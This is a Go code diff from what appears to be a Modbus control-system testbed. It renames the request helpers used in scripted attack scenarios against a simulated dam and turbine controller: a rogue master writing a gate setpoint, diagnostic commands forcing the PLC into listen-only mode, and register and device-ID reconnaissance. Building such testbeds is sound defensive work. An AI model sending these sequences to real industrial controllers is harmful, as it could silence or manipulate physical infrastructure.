@@ -303,7 +303,7 @@ var atkRogueMaster = attack{
 				return err
 			}
 			e.atkRaw = s
-			_, err = s.request(UnitDam, pduRead(modbus.FuncReadHoldingRegisters, 0, 4))
+			_, err = s.request(UnitDam, reqRead(modbus.FuncReadHoldingRegisters, 0, 4))
 			return err
 		}},
 		{1200 * time.Millisecond, func(e *env) error {
@@ -313,7 +313,7 @@ var atkRogueMaster = attack{
 			}
 			defer s.close()
 			e.atkRaw = nil
-			_, err := s.request(UnitDam, pduWriteRegister(0, TagByName(TagGate1SP).Raw(40)))
+			_, err := s.request(UnitDam, reqWriteRegister(0, TagByName(TagGate1SP).Raw(40)))
 			return err
 		}},
 	},
@@ -350,7 +350,7 @@ var atkDiagnostics = attack{
 				return err
 			}
 			e.atkRaw = s
-			_, err = s.request(UnitDam, pduDiag(modbus.SubReturnQueryData, 0xA5A5))
+			_, err = s.request(UnitDam, reqDiag(modbus.SubReturnQueryData, 0xA5A5))
 			return err
 		}},
 		{500 * time.Millisecond, func(e *env) error {
@@ -358,7 +358,7 @@ var atkDiagnostics = attack{
 				return nil
 			}
 			// No answer is expected: the PLC goes listen-only.
-			_, _ = e.atkRaw.request(UnitDam, pduDiag(modbus.SubForceListenOnlyMode, 0))
+			_, _ = e.atkRaw.request(UnitDam, reqDiag(modbus.SubForceListenOnlyMode, 0))
 			return nil
 		}},
 		{2500 * time.Millisecond, func(e *env) error {
@@ -374,7 +374,7 @@ var atkDiagnostics = attack{
 				return err
 			}
 			defer s.close()
-			_, err = s.request(UnitDam, pduDiag(modbus.SubRestartCommunicationsOption, 0))
+			_, err = s.request(UnitDam, reqDiag(modbus.SubRestartCommunicationsOption, 0))
 			return err
 		}},
 	},
@@ -393,27 +393,27 @@ var atkRecon = attack{
 		defer s.close()
 		gap := func() { e.wait(40 * time.Millisecond) }
 		for _, u := range []uint8{UnitDam, UnitTurbine} {
-			if _, err := s.request(u, pduDeviceID(modbus.ReadDeviceIDBasic, 0)); err != nil {
+			if _, err := s.request(u, reqDeviceID(modbus.ReadDeviceIDBasic, 0)); err != nil {
 				return err
 			}
 			gap()
-			if _, err := s.request(u, pduDeviceID(modbus.ReadDeviceIDRegular, 0)); err != nil {
+			if _, err := s.request(u, reqDeviceID(modbus.ReadDeviceIDRegular, 0)); err != nil {
 				return err
 			}
 			gap()
 		}
-		if _, err := s.request(UnitDam, []byte{byte(modbus.FuncReportServerID)}); err != nil {
+		if _, err := s.request(UnitDam, modbus.Request{Function: modbus.FuncReportServerID}); err != nil {
 			return err
 		}
 		gap()
 		for u := 0; u <= 16; u++ {
-			if _, err := s.request(uint8(u), pduRead(modbus.FuncReadHoldingRegisters, 0, 1)); err != nil {
+			if _, err := s.request(uint8(u), reqRead(modbus.FuncReadHoldingRegisters, 0, 1)); err != nil {
 				return err
 			}
 			gap()
 		}
 		for a := uint16(0); a < 32; a++ {
-			if _, err := s.request(UnitDam, pduRead(modbus.FuncReadHoldingRegisters, a, 1)); err != nil {
+			if _, err := s.request(UnitDam, reqRead(modbus.FuncReadHoldingRegisters, a, 1)); err != nil {
 				return err
 			}
 			gap()
